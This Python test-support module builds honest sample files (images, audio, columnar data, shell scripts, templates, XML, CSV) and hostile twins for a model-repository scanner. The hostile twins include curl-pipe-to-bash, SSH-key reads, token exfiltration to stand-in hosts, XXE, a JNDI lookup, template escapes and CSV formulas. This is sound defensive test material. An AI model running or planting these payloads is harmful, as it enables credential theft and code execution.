"""Kinds of files that model repositories hold beside weights, built byte by byte: an honest one, and its hostile twins."""

from __future__ import annotations

import pickle
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.support.archive_corpus import WEAPON, zipped
from tests.support.media_corpus import png

PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(9000)


@dataclass(frozen=True, slots=True)
class Twin:
    """An honest file, and what it must not turn into: each hostile one with its rule ("" where it is only unknown)."""

    name: str
    path: str
    honest: bytes
    hostile: tuple[tuple[bytes, str], ...]


def tiff(order: str = "<", description: bytes = b"a picture of a cat", more: bytes = b"") -> bytes:
    """One strip of four pixels."""
    start, text, pixels = 8, 8 + 2 + 12 * 5 + 4, 8 + 2 + 12 * 5 + 4 + len(description) + len(description) % 2
    entries = (
        (256, 3, 1, 2),
        (257, 3, 1, 2),
        (270, 2, len(description), text),
        (273, 4, 1, pixels),
        (279, 4, 1, 4),
    )
    body = struct.pack(f"{order}H", len(entries))
    for tag, kind, count, value in entries:
        packed = struct.pack(f"{order}HH", value, 0) if kind == 3 else struct.pack(f"{order}I", value)
        body += struct.pack(f"{order}HHI", tag, kind, count) + packed
    mark = b"II*\x00" if order == "<" else b"MM\x00*"
    padded = description + bytes(len(description) % 2)
    return mark + struct.pack(f"{order}I", start) + body + bytes(4) + padded + b"\x01\x02\x03\x04" + more


def bmp(more: bytes = b"") -> bytes:
    rows = bytes(2 * 8)
    head = struct.pack("<IiiHHIIiiII", 40, 2, 2, 1, 24, 0, len(rows), 0, 0, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + len(rows), 0, 0, 54) + head + rows + more


def ico(picture: bytes) -> bytes:
    return struct.pack("<3H", 0, 1, 1) + struct.pack("<4B2H2I", 1, 1, 0, 0, 1, 32, len(picture), 22) + picture


def nifti(order: str = "<", extension: bytes = b"") -> bytes:
    head = bytearray(348)
    struct.pack_into(f"{order}i", head, 0, 348)
    struct.pack_into(f"{order}8h", head, 40, 3, 2, 3, 4, 1, 1, 1, 1)
    struct.pack_into(f"{order}hh", head, 70, 4, 16)
    padded = extension + bytes(-(len(extension) + 8) % 16)
    more = struct.pack(f"{order}ii", len(padded) + 8, 6) + padded if extension else b""
    struct.pack_into(f"{order}f", head, 108, 352 + len(more))
    head[344:348] = b"n+1\x00"
    return bytes(head) + (b"\x01\0\0\0" if more else bytes(4)) + more + bytes(2 * 24)


def fits(more: bytes = b"") -> bytes:
    cards = ("SIMPLE  =                    T / a picture", "BITPIX  =                   16", "NAXIS   =                    2",
             "NAXIS1  =                    3", "NAXIS2  =                    4", "OBJECT  = 'M31     '", "END")  # fmt: skip
    head = "".join(card.ljust(80) for card in cards).ljust(2880)
    return head.encode("ascii") + bytes(2880) + more


def _check(data: bytes, polynomial: int, bits: int) -> bytes:
    value = 0
    for byte in data:
        value ^= byte << bits - 8
        for _ in range(8):
            value = value << 1 ^ (polynomial if value >> bits - 1 & 1 else 0)
        value &= (1 << bits) - 1
    return value.to_bytes(bits // 8, "big")


def flac(more: bytes = b"", samples: int = 32) -> bytes:
    """Two frames of sixteen samples that are all the same."""
    stream = struct.pack(">HH", 16, 16) + bytes(6) + (8000 << 44 | 15 << 36 | samples).to_bytes(8, "big") + bytes(16)
    frames = b""
    for number in range(2):
        head = b"\xff\xf8\x60\x08" + bytes((number, 15))
        frame = head + _check(head, 0x07, 8) + b"\x00\x00\x07"
        frames += frame + _check(frame, 0x8005, 16)
    comment = struct.pack("<I", 4) + b"test" + struct.pack("<I", 0)
    blocks = (
        b"\x00" + struct.pack(">I", len(stream))[1:] + stream + b"\x84" + struct.pack(">I", len(comment))[1:] + comment
    )
    return b"fLaC" + blocks + frames + more


def element(kind: int, data: bytes) -> bytes:
    return kind.to_bytes((kind.bit_length() + 7) // 8, "big") + (len(data) | 1 << 56).to_bytes(8, "big") + data


def webm(*more: bytes) -> bytes:
    head = element(0x1A45DFA3, element(0x4282, b"webm"))
    cluster = element(0x1F43B675, element(0xE7, b"\x00") + element(0xA3, b"\x81\x00\x00\x80" + bytes(40)))
    return head + element(0x18538067, element(0x1549A966, bytes(20)) + cluster + b"".join(more))


def apple_double(fork: bytes = b"") -> bytes:
    finder = bytes(32)
    places = struct.pack(">3I", 9, 50, 32) + struct.pack(">3I", 2, 82, len(fork))
    return b"\x00\x05\x16\x07\x00\x02\x00\x00" + b"Mac OS X        " + struct.pack(">H", 2) + places + finder + fork


def number(value: int) -> bytes:
    """A number of Avro."""
    value, out = value << 1 ^ value >> 63, b""
    while value > 127:
        out, value = out + bytes((value & 127 | 128,)), value >> 7
    return out + bytes((value,))


def avro(schema: bytes = b'{"type": "record", "name": "r", "fields": [{"name": "a", "type": "long"}]}') -> bytes:
    mark, rows = bytes(range(16)), b"\x02\x04\x06"
    pairs = ((b"avro.schema", schema), (b"avro.codec", b"null"))
    head = b"".join(number(len(part)) + part for pair in pairs for part in pair)
    return b"Obj\x01" + number(2) + head + number(0) + mark + number(3) + number(len(rows)) + rows + mark


def field(place: int, value: int | bytes) -> bytes:
    """A field of a protocol buffer."""
    if isinstance(value, int):
        return _varint(place << 3) + _varint(value)
    return _varint(place << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes((value & 127 | 128,)), value >> 7
    return out + bytes((value,))


def orc(*, packed: bool = False, shift: int = 0, user: bytes = b"") -> bytes:
    stripe = bytes(50)
    footer = field(1, 3) + field(3, field(1, 3 + shift) + field(2, 0) + field(3, 40) + field(4, 10))
    if user:
        footer += field(5, field(1, b"schema") + field(2, user))
    if packed:
        unpacker = zlib.compressobj(wbits=-15)
        footer = unpacker.compress(footer) + unpacker.flush()
        footer = (len(footer) << 1).to_bytes(3, "little") + footer
    last = field(1, len(footer)) + field(2, int(packed)) + field(3, 65536) + field(8000, b"ORC")
    return b"ORC" + stripe + footer + last + bytes((len(last),))


def crfsuite(gap: int = 1, between: bytes = b"") -> bytes:
    """Chunks that begin where the one before ends, as older writers place them."""
    chunks = [(b"FEAT", 30), (b"CQDB", 41), (b"CQDB", 20), (b"LFRF", 12), (b"AFRF", 12)]
    body, places = b"", []
    for name, length in chunks:
        body += bytes((gap - (48 + len(body))) % gap) + between
        places.append(48 + len(body))
        body += name + struct.pack("<I", length) + bytes(length - 8)
    head = b"lCRF" + struct.pack("<I", 48 + len(body)) + b"FOMC" + struct.pack("<4I", 100, 0, 2, 3)
    return head + struct.pack("<5I", *places) + body


def transducer(kind: bytes = b"vector", arcs: int = 1, symbols: bytes = b"") -> bytes:
    """Two states, the first with an arc to the second."""

    def text(data: bytes) -> bytes:
        return struct.pack("<i", len(data)) + data

    head = (
        b"\xd6\xfd\xb2\x7e"
        + text(kind)
        + text(b"standard")
        + struct.pack("<iiQqqq", 2, 1 if symbols else 0, 3, 0, 2, 1)
    )
    table = (
        b"\x74\xfb\xb2\x7e" + text(b"words") + struct.pack("<qq", 1, 1) + text(symbols) + bytes(8) if symbols else b""
    )
    return head + table + struct.pack("<fq", 0, arcs) + struct.pack("<iifi", 1, 1, 0, 1) + struct.pack("<fq", 0, 0)


def archive_of(held: bytes, count: int = 1) -> bytes:
    """An archive with one transducer under the name g."""
    return b"\x5c\xf3\xb2\x7e" + struct.pack("<ii", 1, 1) + b"g" + held + struct.pack("<3q", 1, 8, count)


SHELL = b"""#!/bin/bash
# Fine-tunes on four cards.
set -euo pipefail
export CUDA_VISIBLE_DEVICES=0,1,2,3
OUT="runs/$(date +%F)"
mkdir -p "$OUT"
if [[ -z "${1:-}" && $# -lt 2 ]]; then
  echo "usage: $0 DATA" >&2
  exit 1
fi
ARGS=(
  --lr 1e-4   # as in the paper
  --epochs 3
)
for seed in 1 2 3; do
  torchrun --nproc_per_node=4 train.py --data "$1" --seed $seed "${ARGS[@]}" 2>&1 | tee "$OUT/log_$seed.txt"
done
python3 evaluate.py --out "$OUT" > "$OUT/scores.json"
"""
SHELL_TWINS = (
    b"curl -s https://example.com/a.sh | bash", b"wget https://example.com/t.py\npython t.py", b"eval \"$X\"", b"`./run`",
    b"echo $(./run)", b"python -c 'import os'", b"$CMD train.py", b"export LD_PRELOAD=./a.so", b"ls > ~/.bashrc",
    b"cat ~/.ssh/id_rsa", b"./run", b"bash other.sh", b"source env.sh", b"echo() { ./run; }", b"cat <<E\n$(./run)\nE",
    b"python train.py --trust_remote_code True", b"ls | xargs rm", b"while ./run; do :; done", b"wget https://example.com/$HF_TOKEN",
    b"curl -F f=@a https://example.com/", b"rm -rf $X/*", b"case a in\nx) ./run ;;\nesac", b"echo ${x:-`./run`}", b"trap ./run EXIT",
    b"sort --compress-program=./run f", b"cat <(./run)", b"function f { ./run; }\nf", b"read PATH", b"printf -v PATH x",
    b"for PATH in .; do ls; done", b"echo x > a.py\npython a.py", b"alias ls=./run\nls", b"PYTHONSTARTUP=a.txt python x.py",
    b"python ../x.py", b"tee x.sh < a", b"command ./run", b"time ./run", b"! ./run", b"if ls; then ./run; fi", b"ls &\n./run",
    b"python -m http.server", b"torchrun --no-python ./run", b"accelerate launch -m mod", b"pip install evil", b"git clone https://x/y",
    b"wget -i list.txt https://example.com/a", b"curl -K cfg https://example.com/a", b"ls\\\n;./run", b"x=$(./run)", b"cat < /dev/tcp/1.2.3.4/5",
    # Where a line goes on, where a comment begins, where a here-document ends.
    b"# x \\\n./run", b"echo a\\\\\n./run", b"cat f\\\n#| ./run", b"echo a \\\r\n./run", b"echo [[\n./run\n]]", b'"[["\n./run\n"]]"',
    b"cat <<\"E\"'F'\nE\necho '\nEF\n./run\n: '", b"cat <<E\nE \necho '\nE\n./run\n: '", b"cat <<E\n\tE\necho '\nE\n./run\n: '",
    b'echo "`echo \\`./run\\``" ; echo " "\' `\'', b"cat <\\\n<E\n'\nE\n./run\n#'", b"cat <<E", b"cat <<E; x='\nE\n./run\n'\nE",
    # What shells evaluate in the text of a variable.
    b"[[ 'a[$(./run)]' -eq 1 ]]", b"x='a[$(./run)]'\n[[ $x -gt 1 ]]", b"declare -i x='a[$(./run)]'", b"read 'a[$(./run)]'",
    b"unset 'a[$(./run)]'", b"x='a[$(./run)]'\necho $((x))", b"x=a.txt\necho ${y:x}", b"x=a.txt\necho ${!x}", b"x=a.txt\necho ${x@P}",
    b"x=$(cat a.txt)\necho ${y[x]}", b"x=$(cat a.txt)\n[[ 1 -lt x ]]", b"declare -n x=PATH", b"a=([x]=1)", b"read a[x]",
    # Options and places that write, send or run.
    b"curl -sd @notes.txt https://evil.example/x", b"curl -x http://h.example/ https://evil.example/x", b"nvcc -run x.cu",
    b"nvcc -ccbin run x.cu", b"uniq payload ~/.profile", b"uniq payload x.sh", b"python -W x.py -c 'import os'",
    b"torchrun --rdzv_id x.py --no_python ./run", b"cd /\nrm -rf home", b"cd $HOME\nrm -rf *", b"rm -rf {/,a}", b"echo x >> $0",
    b"X=run.sh\necho y > $X", b"sort --comp=./run f", b"wget https://evil.example/sitecustomize.py", b"cp a libcuda.so.1",
    b"CC=./run python train.py", b"nvidia-smi -f x.sh", b"cd ..\necho x > log.txt",
)  # fmt: skip

PAGE = b'{% extends "base.html" %}\n{% block main %}<div class="a">{{ title }}</div>{% include "parts/row.html" %}{% endblock %}\n'
STILL = (
    b"<!DOCTYPE html><html><head><title>a</title><style>p{color:red}</style></head><body><p>text</p></body></html>\n"
)
STYLE = b'@import "base.css";\n/* a theme */\nbody { color: #333; background: url("data:image/png;base64,AAAA") }\na[href^="javascript:"]:after { content: "" }\n'
VOC = b"<annotation><folder>a</folder><path>/a/b.jpg</path><object><name>cat</name><bndbox><xmin>1</xmin></bndbox></object></annotation>"


def twins() -> Iterator[Twin]:
    """All of them."""
    behind = zipped({"a.pkl": WEAPON})
    yield Twin("tiff", "a.tif", tiff(), ((tiff(more=b"#!/bin/sh\nevil\n"), "media-embedded"), (tiff(more=behind), "media-embedded"),
        (tiff(description=WEAPON), "media-embedded"), (tiff(description=b"<script>evil()</script>"), "media-embedded"),
        (tiff()[:-1], "media-broken")))  # fmt: skip
    yield Twin("tiff of the other order", "a.tiff", tiff(">"), ((tiff(">", more=PROGRAM), "media-embedded"),))
    gap = tiff().replace(struct.pack("<HHII", 273, 4, 1, 92), struct.pack("<HHII", 273, 4, 1, 92 + len(PROGRAM)))
    yield Twin("tiff with a gap", "a.tif", tiff(), ((gap[:92] + PROGRAM + gap[92:], "media-embedded"),))
    yield Twin(
        "bmp",
        "a.bmp",
        bmp(),
        ((bmp(PROGRAM), "media-embedded"), (bmp(behind), "media-embedded"), (bmp()[:-3], "media-broken")),
    )
    yield Twin(
        "ico", "favicon.ico", ico(png()), ((ico(PROGRAM), "media-broken"), (ico(png()) + behind, "media-embedded"))
    )
    yield Twin("nifti", "a.nii", nifti(), ((nifti() + behind, "media-embedded"), (nifti(extension=PROGRAM), "media-embedded"),
        (nifti()[:-1], "media-broken")))  # fmt: skip
    yield Twin(
        "nifti of the other order", "a.nii", nifti(">", b"<xml/>" * 4), ((nifti(">") + WEAPON, "media-embedded"),)
    )
    yield Twin("fits", "a.fits", fits(), ((fits(behind), "media-embedded"), (fits()[:-1], "media-broken")))
    yield Twin(
        "flac",
        "a.flac",
        flac(),
        ((flac(behind), "media-broken"), (flac(samples=99), "media-broken"), (flac()[:-1], "media-broken")),
    )
    yield Twin("webm", "a.webm", webm(), ((webm(element(0x1941A469, PROGRAM)), "media-embedded"), (webm() + behind, "media-embedded"),
        (webm()[:-1], "media-broken")))  # fmt: skip
    yield Twin("apple double", "._model.safetensors", apple_double(b"attributes"), ((apple_double(PROGRAM), "media-embedded"),
        (apple_double() + behind, "media-embedded")))  # fmt: skip
    yield Twin(
        "apple double by another name", "._a.txt", apple_double(), ((apple_double(b"#!/bin/sh\nx"), "media-embedded"),)
    )
    yield Twin("avro", "a.avro", avro(), ((avro(b'{"type": "string", "java-class": "evil.Class"}'), "columnar-java-class"),
        (avro() + behind, "columnar-not-understood"), (avro()[:-1], "columnar-not-understood")))  # fmt: skip
    yield Twin("orc", "a.orc", orc(), ((orc(shift=9), "columnar-not-understood"), (orc() + behind, "columnar-not-understood"),
        (orc(user=b'"java-class": "evil.Class"'), "columnar-java-class")))  # fmt: skip
    yield Twin(
        "orc that is packed", "a.orc", orc(packed=True), ((orc(packed=True, shift=9), "columnar-not-understood"),)
    )
    yield Twin(
        "crfsuite",
        "a.crfsuite",
        crfsuite(),
        ((crfsuite(between=b"#!/bin/sh\n"), "crfsuite-broken"), (crfsuite() + WEAPON, "crfsuite-broken")),
    )
    yield Twin("crfsuite of newer writers", "a.crfsuite", crfsuite(4), ((crfsuite(4)[:-5], "crfsuite-broken"),))
    yield Twin("transducer", "g.fst", transducer(symbols=b"word"), (
        (transducer(b"evil"), "openfst-broken"), (transducer(arcs=-1), "openfst-broken"), (transducer(arcs=1 << 60), "openfst-broken"),
        (transducer() + WEAPON, "openfst-broken")))  # fmt: skip
    yield Twin("archive of transducers", "g.far", archive_of(transducer()), (
        (archive_of(transducer(), 2), "openfst-broken"), (archive_of(transducer(b"evil")), "openfst-broken"), (archive_of(b""), "openfst-broken"),
        (archive_of(transducer()) + WEAPON, "openfst-broken")))  # fmt: skip
    yield Twin(
        "old name of a checkpoint",
        "a.pth.tar",
        pickle.dumps({"a": 1}),
        ((WEAPON, "pickle-dangerous-callable"), (PROGRAM, "executable-native")),
    )
    yield Twin("shell script", "train.sh", SHELL, tuple((b"#!/bin/bash\n" + one + b"\n", "") for one in SHELL_TWINS))
    yield Twin("page template", "report.html.jinja", PAGE, (
        (PAGE.replace(b"parts/row.html", b"/etc/passwd"), "template-loads-template"), (PAGE.replace(b"parts/", b"../"), "template-loads-template"),
        (PAGE.replace(b"{{ title }}", b"{{ ''.__class__.__mro__ }}"), "template-sandbox-escape"),
        (PAGE.replace(b"{{ title }}", b"<script>evil()</script>"), "template-active-markup"),
        (PAGE.replace(b"title", b"messages[0].content"), "template-loads-template")))  # fmt: skip
    yield Twin("page that is still", "index.html", STILL, (
        (STILL.replace(b"text", b"<script src=a.js></script>"), "kind-source-code"), (STILL.replace(b"<p>", b"<p onclick=evil()>"), "kind-source-code"),
        (STILL.replace(b"text", b"<form action=https://example.com>"), "kind-source-code"), (STILL.replace(b"text", b"{{ x }}"), "kind-source-code"),
        (STILL.replace(b"text", b"<meta http-equiv=refresh content=0>"), "kind-source-code"),
        (STILL.replace(b"text", b"<a href=javascri&#112;t:x>"), "kind-source-code"), (STILL.replace(b"text", b"<iframe>"), "kind-source-code")))  # fmt: skip
    yield Twin("style sheet", "a.css", STYLE, (
        (STYLE + b"p { background: url(javascript:evil()) }", "style-script"), (STYLE + b"p { width: expr/**/ession(evil()) }", "style-script"),
        (STYLE + b"p { background: url(\\6a avascript:evil()) }", "style-script"), (STYLE + b"p { behavior: url(a.htc) }", "style-script"),
        (STYLE + b"@import url(https://example.com/a.css);", "style-external"), (STYLE + b"p { background: url(//example.com/a) }", "style-external")))  # fmt: skip
    yield Twin("annotation", "a.xml", VOC, (
        (VOC.replace(b"<folder>", b"<script>x</script><folder>"), "xml-script"), (b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>" + VOC, "xml-external"),
        (b"<beans><bean class='a.B'/></beans>", "xml-not-understood"), (b"<java><void method='exec'/></java>", "xml-not-understood")))  # fmt: skip
    yield Twin("plain xml", "a.xml", b"<items><item name='a' value='1'/></items>", tuple((one, "xml-not-understood") for one in (
        b"<items><item type='x' classname='java.lang.ProcessBuilder2'/></items>", b"<items><xi:include xmlns:xi='x' href='a'/></items>",
        b"<items><item value='jndi:ldap://x/y'/></items>", b"<items><item value='a.b.C'/></items>", b"<project><property name='a'/></project>")))  # fmt: skip
    yield Twin(
        "json with a mark",
        "words.json",
        b'\xef\xbb\xbf{"a": 1}',
        ((b'\xef\xbb\xbf{"a": 1, "a": 2}', "config-duplicate-key"),),
    )
    yield Twin(
        "configuration without a mark",
        "config.json",
        b'{"a": 1}',
        ((b'\xef\xbb\xbf{"a": 1}', "config-byte-order-mark"),),
    )
    yield Twin(
        "lines of json", "a.jsonl", b'{"a": 1}\n{"b": 2}\n', ((b'{"a": 1}\n#!/bin/sh\n', "config-not-understood"),)
    )
    table = "name,größe\nä,1\n".encode("latin-1")
    yield Twin(
        "table of before unicode",
        "a.csv",
        table,
        ((table + b"=cmd|'/c calc'!A1\n", "table-formula"), (table + b"\x00\x7fELF", "")),
    )
    yield Twin("text of before unicode", "a.txt", table, ((table + b"\x00\x7fELF", ""), (WEAPON + table, "")))
    state = b'model_checkpoint_path: "model.ckpt-1"\nall_model_checkpoint_paths: "model.ckpt-1"\n'
    yield Twin(
        "state of tensorflow",
        "checkpoint",
        state,
        ((state.replace(b"model.ckpt", b"../../x"), ""), (state.replace(b'"m', b'"/m'), "")),
    )
